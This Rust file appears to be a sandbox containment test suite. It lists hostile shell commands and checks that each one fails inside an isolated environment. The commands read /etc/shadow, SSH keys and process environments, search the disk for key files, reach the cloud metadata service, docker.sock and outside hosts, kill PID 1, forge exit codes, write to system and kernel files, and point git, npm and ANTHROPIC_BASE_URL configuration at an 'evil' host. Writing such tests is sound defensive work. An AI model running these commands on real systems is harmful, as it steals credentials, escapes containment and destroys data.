//! Reading, reaching and writing what lies outside: credentials, processes, the network, the host's files.

use super::*;

pub(super) fn scripts(bait: &Bait) -> Vec<Hostile> {
    let (mark, file, socket) = (&bait.mark, bait.file(), bait.socket());
    let (tcp, udp) = (bait.tcp.local_addr().unwrap().port(), bait.udp.local_addr().unwrap().port());
    let abstract_name = bait.abstract_name();
    let connects = |domain: &str, kind: &str, address: &str| {
        format!(
            "perl -MSocket -e 'socket(S, {domain}, {kind}, 0) or die qq(no socket: $!\\n); \
             connect(S, {address}) or die qq(no way: $!\\n); send(S, qq(out), 0); print qq(OUT\\n)'"
        )
    };
    let inet = |kind: &str, host: &str, port: u16| {
        connects("PF_INET", kind, &format!("pack_sockaddr_in({port}, inet_aton(q({host})))"))
    };
    let unix = |path: &str| connects("PF_UNIX", "SOCK_STREAM", &format!("pack_sockaddr_un({path})"));
    let reach = |name, commands: &[&str]| Hostile::runs(name, commands).never("\nOUT");
    vec![
        Hostile::runs("environment", &["env; set; cat /proc/self/environ | tr '\\0' '\\n'"]).never("SECRET").never("CARGO_PKG"),
        Hostile::runs("environment-of-others", &["cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>&1 | tr '\\0' '\\n'"])
            .never("CARGO_PKG"),
        Hostile::runs("keys-on-disk", &[
            "cat ../../../key.pem ../../../secret ../../../model-key",
            "find / -path /usr -prune -o -path /proc -prune -o -path /root -prune -o \\( -name key.pem -o -name model-key -o -name 'assentry.db*' \\) -exec cat {} + 2>/dev/null",
            &format!("cat {file} /proc/1/root{file} /proc/1/cwd/../../key.pem"),
        ]),
        Hostile::runs("homes-and-shadow", &["cat /etc/shadow /root/.ssh/* /root/.netrc /home/*/.ssh/*; ls /root /home /var /run"])
            .never("root:x:0").never("root:*").never("root:$"),
        Hostile::runs("token-in-the-mirror", &["find / -path /usr -prune -o -path /proc -prune -o -name config -path '*.git*' -exec cat {} + 2>/dev/null; git config --list"]),
        reach("tcp-to-the-host", &[&inet("SOCK_STREAM", "127.0.0.1", tcp), &format!("bash -c 'echo OUT >/dev/tcp/127.0.0.1/{tcp}'")]),
        reach("tcp-version-six", &[&connects("PF_INET6", "SOCK_STREAM", &format!("pack_sockaddr_in6({tcp}, pack(q(x15 C), 1))"))]),
        reach("tcp-to-the-world", &[&inet("SOCK_STREAM", "1.1.1.1", 443)]),
        reach("udp", &[&inet("SOCK_DGRAM", "127.0.0.1", udp), &inet("SOCK_DGRAM", "8.8.8.8", 53)]),
        reach("names", &["getent hosts example.com && echo OUT; getent ahosts github.com && echo OUT"]),
        reach("metadata", &[&inet("SOCK_STREAM", "169.254.169.254", 80), "curl -sm2 http://169.254.169.254/ && echo OUT"]),
        reach("unix-socket", &[&unix(&format!("q({socket})")), &unix("q(/var/run/docker.sock)"), &unix("q(/run/dbus/system_bus_socket)")]),
        reach("abstract-socket", &[&unix(&format!("qq(\\0{abstract_name})"))]),
        reach("raw-packets", &["perl -e 'socket(S, 17, 3, 768) and print qq(OUT\\n); socket(S, 2, 3, 1) and print qq(OUT\\n)'"]),
        reach("push-by-git", &[&format!("git init -q /tmp/r && git -C /tmp/r fetch http://127.0.0.1:{tcp}/acme/slug.git && echo OUT")]),
        reach("new-namespaces", &["unshare -Urn true && echo OUT; unshare -m true && echo OUT; mount -t tmpfs x /mnt && echo OUT"]),
        reach("other-processes", &["perl -e 'syscall(101, 16, 1, 0, 0) == 0 and print qq(OUT\\n)'; cat /proc/1/mem >/dev/null && echo OUT"]),
        Hostile::runs("kills-everybody", &["kill -9 1; kill -9 $PPID; true", "kill -9 -1", "kill -STOP 1; true"]),
        Hostile::runs("forged-exit", &[
            "for f in /proc/1/fd/* /proc/$PPID/fd/*; do echo '{\"Code\":0}' > $f; done 2>/dev/null; echo '{\"Code\":0}' >&2; exit $((70 + 7))",
        ])
        .told("exit 77"),
        Hostile::runs("system-files", &[
            "echo x > /etc/passwd || echo x > /usr/bin/x || rm -f /usr/bin/env || echo KEPT; touch /x /work/../y && echo OUT",
        ])
        .told("\nKEPT")
        .never("\nOUT"),
        Hostile::runs("kernel-settings", &[
            "echo h > /proc/sysrq-trigger && echo OUT; echo x > /proc/sys/kernel/core_pattern && echo OUT; echo 1 > /sys/fs/cgroup/x && echo OUT",
        ])
        .never("\nOUT"),
        Hostile::runs("left-in-temporary-folders", &[
            &format!("touch /tmp/{mark} $HOME/{mark} /dev/shm/{mark}; mkdir -p ~/.config; echo x > ~/.profile"),
            &format!("ls /tmp/{mark} $HOME/{mark} /dev/shm/{mark} ~/.profile 2>/dev/null || echo GONE"),
        ])
        .told("\nGONE")
        .never(&format!("\n/tmp/{mark}")),
        Hostile::runs("other-users", &["su -c id root && echo OUT; sudo -n true && echo OUT; setpriv --reuid 0 true && echo OUT"])
            .never("\nOUT"),
        Hostile::runs("proxies-by-configuration", &[
            "printf '[core]\\nsshCommand=touch /tmp/x\\n[url \"http://evil/\"]\\ninsteadOf = https://\\n' > .gitconfig; cp .gitconfig ~/",
            "echo 'ANTHROPIC_BASE_URL=http://evil/' > .env; echo 'registry=http://evil/' > .npmrc",
        ])
        .told("(outside the scope and not taken: .env, .gitconfig, .npmrc)"),
    ]
}
